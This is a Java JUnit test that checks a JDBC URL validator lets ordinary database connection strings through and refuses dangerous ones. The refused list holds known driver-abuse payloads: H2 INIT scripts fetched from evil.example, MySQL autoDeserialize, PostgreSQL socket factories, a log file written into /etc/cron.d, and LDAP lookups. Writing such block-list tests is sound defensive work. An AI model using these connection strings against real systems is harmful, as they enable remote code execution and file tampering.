package org.gongkai.ingest.mapping;

import static org.junit.jupiter.api.Assertions.assertNotNull;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertTrue;

import org.gongkai.core.Bilingual;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** A mapping file is data, and must not make a driver run code. */
class JdbcAddressTest {

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:file:./old-site",
                "jdbc:h2:mem:",
                "jdbc:h2:tcp://localhost/~/site;IFEXISTS=TRUE;mode=MySQL",
                "jdbc:mysql://10.0.0.5:3306/cms?useSSL=false&serverTimezone=Asia/Shanghai&characterEncoding=utf8",
                "jdbc:mariadb://db/cms?useSsl=true",
                "jdbc:postgresql://db:5432/cms?currentSchema=old&sslmode=require",
                "jdbc:kingbase8://db:54321/cms?currentSchema=old",
                "jdbc:sqlserver://db:1433;databaseName=cms;encrypt=false;trustServerCertificate=true;",
                "jdbc:sqlserver://db\\\\old;databaseName=cms",
                "jdbc:oracle:thin:@//db:1521/cms",
                "jdbc:oracle:thin:@db:1521:cms",
                "jdbc:oracle:thin:@(DESCRIPTION=(ADDRESS=(PROTOCOL=TCP)(HOST=db)(PORT=1521))(CONNECT_DATA=(SID=cms)))",
                "jdbc:dm://db:5236?schema=CMS",
                "jdbc:sqlite:old.db?open_mode=1",
                "jdbc:nosuch:x",
                "jdbc:db2://db:50000/cms"
            })
    void whatSitesHaveIsLetThrough(String url) {
        assertNull(JdbcAddress.fault(url));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "jdbc:h2:mem:;INIT=RUNSCRIPT FROM 'http://evil.example/x.sql'",
                "jdbc:h2:mem:a;MODE=MySQL;init=CREATE ALIAS X AS 'void x() {}'",
                "jdbc:h2:mem:a; INIT =x",
                "jdbc:h2:mem:a;MODE=MySQL\\;INIT=x",
                "jdbc:h2:mem:a;DATABASE_EVENT_LISTENER='x.Y'",
                "jdbc:H2:mem:a;INIT=x",
                "jdbc:mysql://db/cms?autoDeserialize=true&queryInterceptors=x",
                "jdbc:mysql://db/cms?useSSL=false&AUTODESERIALIZE=yes",
                "jdbc:mysql://db/cms?%61utoDeserialize=true",
                "jdbc:mysql://address=(host=db)(autoDeserialize=true)/cms",
                "jdbc:mysql://(host=db,autoDeserialize=true)/cms",
                "jdbc:mysql://db/cms?allowLoadLocalInfile=true",
                "jdbc:mysql:loadbalance://db/cms?loadBalanceStrategy=x.Y",
                "jdbc:mysql+srv://db/cms?autoDeserialize=true",
                "jdbc:mysql://db/cms#?autoDeserialize=true",
                "jdbc:mariadb://db/cms?credentialType=x",
                "jdbc:oceanbase://db/cms?detectCustomCollations=true&autoDeserialize=true",
                "jdbc:postgresql://db/cms?socketFactory=org.x.Y&socketFactoryArg=http://evil.example",
                "jdbc:postgresql://db/cms?sslfactory=x",
                "jdbc:postgresql://db/cms?loggerFile=/etc/cron.d/x",
                "jdbc:postgresql://db/cms?authenticationPluginClassName=x",
                "jdbc:opengauss://db/cms?socketFactory=x",
                "jdbc:sqlserver://db;socketFactoryClass=x",
                "jdbc:sqlserver://db;applicationName={a;trustManagerClass=x}",
                "jdbc:oracle:thin:@ldap://evil.example/x",
                "jdbc:oracle:thin:@LDAPS://evil.example/x",
                "jdbc:oracle:thin:@//db:1521/cms?oracle.net.wallet_location=x",
                "jdbc:dm://db:5236?loadBalance=x",
                "jdbc:sqlite::resource:http://evil.example/x.db",
                "jdbc:sqlite:old.db?enable_load_extension=true",
                "jdbc:db2://db:50000/cms:clientRerouteServerListJNDIName=ldap://evil.example/x;",
                "jdbc:derby:cms;traceFile=x",
                "jdbc:log4jdbc:mysql://db/cms?autoDeserialize=true",
                "jdbc:?x"
            })
    void whatCanRunCodeOrIsNotKnownIsRefusedInBothLanguages(String url) {
        Bilingual fault = JdbcAddress.fault(url);
        assertNotNull(fault);
        assertTrue(fault.zh().startsWith("url ") && fault.en().length() > 40, fault.toString());
    }
}
